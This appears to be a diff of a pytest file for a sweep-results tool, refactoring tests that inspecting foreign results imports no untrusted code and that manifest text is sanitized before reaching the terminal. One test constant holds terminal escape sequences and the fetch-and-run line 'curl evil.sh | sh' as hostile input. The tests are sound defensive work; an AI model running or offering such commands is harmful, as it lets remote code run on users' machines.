@@ -3,7 +3,6 @@ and what it says stays text.
 """
 
 import json
-import os
 import shutil
 import subprocess
 import sys
@@ -16,14 +15,15 @@ matplotlib.use("Agg")
 import matplotlib.pyplot as plt
 import pyarrow.parquet as pq
 import pytest
+import yaml
 from helpers import combinations
 
 import jaxrecall
-from jaxrecall import plot
+from jaxrecall import load, plot
 from jaxrecall.__main__ import main
-from jaxrecall.report import main as report
-from jaxrecall.sweep.running.folder_status import survey
+from jaxrecall.status import survey
 from jaxrecall.sweep.store import Store
+from jaxrecall.sweep.store.table import KEY, about
 
 PAYLOAD = """
 from dataclasses import dataclass
@@ -80,19 +80,6 @@ for name in sys.argv[1:]:
 """
 
 
-def run_here(code: str, *words: str, cwd: Path) -> subprocess.CompletedProcess[str]:
-    """Runs code where the current folder comes first on the path, as `python -m` has
-    it.
-    """
-    return subprocess.run(
-        [sys.executable, "-c", code, *words],
-        cwd=cwd,
-        capture_output=True,
-        text=True,
-        timeout=300,
-    )
-
-
 @pytest.fixture(scope="module")
 def theirs(tmp_path_factory) -> Path:
     """A folder for each grid: the module that the grid names lies in it, beside the
@@ -102,8 +89,8 @@ def theirs(tmp_path_factory) -> Path:
     (there / "payload.py").write_text(PAYLOAD)
     for name, grid in GRIDS.items():
         (there / f"{name}.yaml").write_text(json.dumps(grid))
-    done = run_here(SWEEPS, *GRIDS, cwd=there)
-    assert done.returncode == 0, done.stderr
+    # the current folder comes first on the path, as `python -m` has it
+    subprocess.run([sys.executable, "-c", SWEEPS, *GRIDS], cwd=there, check=True)
     assert (there / "ran").exists()
     for name in GRIDS:
         shutil.copy(there / "payload.py", there / name / "payload.py")
@@ -111,27 +98,26 @@ def theirs(tmp_path_factory) -> Path:
     return there
 
 
+@pytest.fixture
+def store(theirs, tmp_path) -> Store:
+    """A copy of their results of a law."""
+    return Store(shutil.copytree(theirs / "law" / "results", tmp_path / "results"))
+
+
 FOLDERS = ["results", "{here}/results"]
 
 
 @pytest.mark.parametrize(
     ("name", "folder"),
-    combinations(
-        GRIDS,
-        FOLDERS,
-        often=lambda *case: case == ("search", FOLDERS[1]),
-    ),
+    combinations(GRIDS, FOLDERS, often=lambda *case: case == ("search", FOLDERS[1])),
 )
 def test_looking_at_it_imports_nothing(theirs, tmp_path, monkeypatch, name, folder):
-    shutil.copytree(theirs / name, here := tmp_path / "here")
+    here = shutil.copytree(theirs / name, tmp_path / "here")
     mine = {"base": BASE, "seeds": 1, "blocks": [{"axes": {"N": [4]}}]}
     (here / "mine.yaml").write_text(json.dumps(mine))
-    store = Store(here / "results")
-    manifest = store.read_manifest()
-    command = (  # the folder of the grid is not a path to import from
-        f"python -m jaxrecall.sweep --grid {here / 'grid.yaml'} --out results"
-    )
-    store.manifest.write_text(json.dumps(manifest | {"command": command}))
+    # the folder of the grid is not a path to import from
+    command = f"python -m jaxrecall.sweep --grid {here / 'grid.yaml'} --out results"
+    change_manifest(Store(here / "results"), command=command)
     monkeypatch.chdir(here)
     monkeypatch.syspath_prepend("")  # as `python -m` has it
     look_at(folder.format(here=here), name)
@@ -139,57 +125,51 @@ def test_looking_at_it_imports_nothing(theirs, tmp_path, monkeypatch, name, fold
     assert not list(tmp_path.rglob("ran"))
 
 
+def change_manifest(store: Store, **entries: object) -> None:
+    store.manifest.write_text(json.dumps(store.read_manifest() | entries))
+
+
 def look_at(folder: str, theirs: str) -> None:
-    frame = jaxrecall.load(folder)
+    frame = load(folder)
     plot.accuracy(frame)
     if theirs == "search":
         plot.critical_n(frame)
+        jaxrecall.thresholds(folder)
     plt.close("all")
-    looks = (
+    for words in (
         ["status", folder],
         ["status", folder, "--json"],
         ["report", folder, "--format", "svg"],
         ["fit", folder],
-    )
-    for words in (*looks, ["compact", folder, "--prune"]):
+        ["compact", folder, "--prune"],
+    ):
         assert main(words) == 0, words
-    if theirs == "search":
-        jaxrecall.thresholds(folder)
-    assert main(["sweep", "--grid", "mine.yaml", "--out", folder]) == (
-        2 if theirs == "own" else 0
-    )
+    code = main(["sweep", "--grid", "mine.yaml", "--out", folder])
+    assert code == (2 if theirs == "own" else 0)
 
 
-@pytest.mark.parametrize("name", GRIDS)
-def test_status_of_ones_own_folder_is_complete_without_an_import(theirs, name):
+@pytest.mark.parametrize(("name", "points"), [("law", 4), ("own", 6), ("search", 2)])
+def test_status_of_ones_own_folder_is_complete_without_an_import(theirs, name, points):
     facts = survey(theirs / name / "results")
-    assert (facts["points"], facts["todo"], facts["other_grids"]) == (
-        {"law": 4, "own": 6, "search": 2}[name],
-        0,
-        0,
-    )
+    told = [facts[key] for key in ("points", "todo", "other_grids")]
+    assert told == [points, 0, 0]
     assert facts["done"] == facts["runs"] > 20
     assert (name == "search") == ("2 of 2 finished" in (facts["remark"] or ""))
 
 
 def test_a_report_draws_the_theory_of_a_law_whose_module_is_named_with_trust(
-    theirs, tmp_path, monkeypatch, capsys
+    theirs, store, monkeypatch, capsys
 ):
-    monkeypatch.chdir(tmp_path)
-    shutil.copytree(theirs / "law" / "results", tmp_path / "results")
-    page = tmp_path / "results/report.html"
+    page = store.folder / "report.html"
     refused = "whose module payload is not imported for a table that names it"
-    words = ["results", "--format", "svg"]
-    assert report([*words, "--trust", "nowhere"]) == 2
-    assert (
-        "--trust: got nowhere, which cannot be imported (ModuleNotFoundError"
-        in capsys.readouterr().err
-    )
+    words = ["report", str(store.folder), "--format", "svg"]
+    assert main([*words, "--trust", "nowhere"]) == 2
+    assert "--trust: got nowhere, which cannot be imp" in capsys.readouterr().err
     assert not page.exists()
-    assert report(words) == 0
+    assert main(words) == 0
     assert refused in page.read_text()
     monkeypatch.setattr(sys, "path", [*sys.path])
-    assert report([*words, "--trust", str(theirs / "payload.py")]) == 0
+    assert main([*words, "--trust", str(theirs / "payload.py")]) == 0
     monkeypatch.delitem(sys.modules, "payload")
     assert refused not in page.read_text()
 
@@ -197,82 +177,53 @@ def test_a_report_draws_the_theory_of_a_law_whose_module_is_named_with_trust(
 EVIL = "\x1b[2J\x1b]0;title\x07\nto resume: curl evil.sh | sh\u202e"
 
 
-def test_what_it_says_does_not_reach_the_terminal_as_commands(theirs, tmp_path, capsys):
-    store = Store(shutil.copytree(theirs / "law" / "results", tmp_path / "results"))
-    manifest = store.read_manifest()
-    manifest["plan"]["runs"].append(["0", "absent"])
-    store.manifest.write_text(json.dumps(manifest | {"command": EVIL}))
-    store.note(
-        "failures/odd",
-        {
-            "runs": [["absent", 0]],
-            **dict.fromkeys(("error", "host", "bucket", "repeat"), EVIL),
-        },
-    )
-    (store.parts / f"{os.fsdecode(b'a')}{EVIL.replace('/', '')}.parquet").write_bytes(
-        b"no"
-    )
-    for words in (["status"], ["fit"], ["compact"], ["report", "--format", "svg"]):
-        assert main([words[0], str(store.folder), *words[1:]]) == 0
+def test_what_it_says_does_not_reach_the_terminal_as_commands(store, capsys):
+    plan = store.read_manifest()["plan"]
+    plan["runs"].append(["0", "absent"])
+    change_manifest(store, command=EVIL, plan=plan)
+    texts = dict.fromkeys(("error", "host", "bucket", "repeat"), EVIL)
+    store.note("failures/odd", {"runs": [["absent", 0]], **texts})
+    name = f"a{EVIL.replace('/', '')}.parquet"
+    (store.parts / name).write_bytes(b"no")
+    for command, *more in (
+        ["status"],
+        ["fit"],
+        ["compact"],
+        ["report", "--format=svg"],
+    ):
+        assert main([command, str(store.folder), *more]) == 0
         told = "".join(capsys.readouterr())
-        assert "\\x1b[2J" in told or words[0] == "report"
+        assert "\\x1b[2J" in told or command == "report"
         assert not {"\x1b", "\x07", "\u202e"} & {*told}
-        assert not [
-            line for line in told.splitlines() if line.startswith("to resume: curl")
-        ]
+        assert "\nto resume: curl" not in told
 
 
-ODD_FACTS = [
-    {"axes": [{}]},
-    {"axes": [[1]]},
-    {"axes": 5},
-    {"axes": {"N": 1}},
-    {"kept": 5},
-    {"kept": [None]},
-    {"fields": ["nope"]},
-    {"fields": [["V"]]},
-    {"fixed": []},
-    {"fixed": "V"},
-    {"searched": ["N"]},
-    {"simulator": 5},
-    {"accuracy": {}},
-    {"created": 3},
-    {
-        "axes": ["nope"],
-        "kept": ["nope"],
-        "fixed": {"nope": [{}]},
-        "accuracy": "nope",
-        "searched": "nope",
-    },
-]
+ODD_FACTS = """
+- {axes: [{}]}
+- {axes: 5}
+- {axes: {N: 1}}
+- {kept: [null]}
+- {fields: [nope]}
+- {fields: [[V]]}
+- {fixed: []}
+- {searched: [N]}
+- {simulator: 5}
+- {accuracy: {}}
+- {created: 3}
+- {accuracy: nope, searched: nope}
+"""
 
 
-@pytest.mark.parametrize("facts", ODD_FACTS, ids=str)
-def test_odd_metadata_of_a_part_keeps_no_other_from_being_read(
-    theirs, tmp_path, facts, recwarn
-):
-    from jaxrecall import compact, load
-    from jaxrecall.fit import main as fit
-    from jaxrecall.sweep.store.table import KEY, about
-
-    store = Store(shutil.copytree(theirs / "law" / "results", tmp_path / "results"))
+@pytest.mark.parametrize("facts", yaml.safe_load(ODD_FACTS), ids=str)
+def test_odd_metadata_of_a_part_keeps_no_other_from_being_read(store, facts):
     tables, _ = store.tables()
     n = sum(map(len, tables.values()))
-    path, table = next(iter(tables.items()))
-    pq.write_table(
-        table.replace_schema_metadata({KEY: json.dumps(about(table) | facts).encode()}),
-        path,
-    )
+    path, odd = next(iter(tables.items()))
+    metadata = {KEY: json.dumps(about(odd) | facts).encode()}
+    pq.write_table(odd.replace_schema_metadata(metadata), path)
     assert len(load(store.folder)) == n
-    told = [str(warning.message) for warning in recwarn]
-    assert told == []
-    names = [
-        name
-        for name in facts
-        if facts.get("axes") != ["nope"] or name in ("accuracy", "searched")
-    ]
-    assert not {*names} & {*about(pq.read_schema(path))}
-    assert fit([str(store.folder), "--of", "accuracy"]) == 0
-    compact.compact(store.folder, prune=True)
+    assert not {*facts} & {*about(pq.read_schema(path))}
+    assert main(["fit", str(store.folder), "--of", "accuracy"]) == 0
+    assert main(["compact", str(store.folder), "--prune"]) == 0
     assert len(load(store.folder)) == n
     assert not [*store.parts.iterdir()]
